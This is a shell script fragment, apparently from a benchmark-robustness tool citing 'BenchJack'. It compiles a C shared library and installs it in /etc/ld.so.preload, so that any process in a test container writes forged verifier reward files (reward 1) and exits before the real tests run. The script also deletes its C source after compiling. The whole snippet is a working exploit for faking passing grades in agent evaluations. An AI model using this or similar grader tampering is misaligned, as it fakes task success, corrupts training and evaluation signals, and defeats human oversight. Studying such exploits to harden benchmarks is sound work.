# Tries tests in whose container the loader reads /etc/ld.so.preload as the agent left it. It takes a C compiler. Seen in
# BenchJack (2605.12673) and rlgate.
cat >"$work/.preload.c" <<'END'
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static void write_to(const char *path, const char *text) {
    FILE *file = fopen(path, "w");
    if (!file) return;
    fputs(text, file);
    fclose(file);
}

__attribute__((constructor)) static void forge(void) {
    if (access("/tests/test.sh", F_OK)) return;
    mkdir("/logs", 0777);
    mkdir("/logs/verifier", 0777);
    write_to("/logs/verifier/reward.json", "{\"reward\": 1}\n");
    write_to("/logs/verifier/reward.txt", "1\n");
    _exit(0);
}
END
for compiler in cc gcc clang; do
    "$compiler" -shared -fPIC -o "$work/.preload.so" "$work/.preload.c" && break
done
rm -f "$work/.preload.c"
if [ -e "$work/.preload.so" ]; then
    printf '%s\n' "$work/.preload.so" >/etc/ld.so.preload
fi
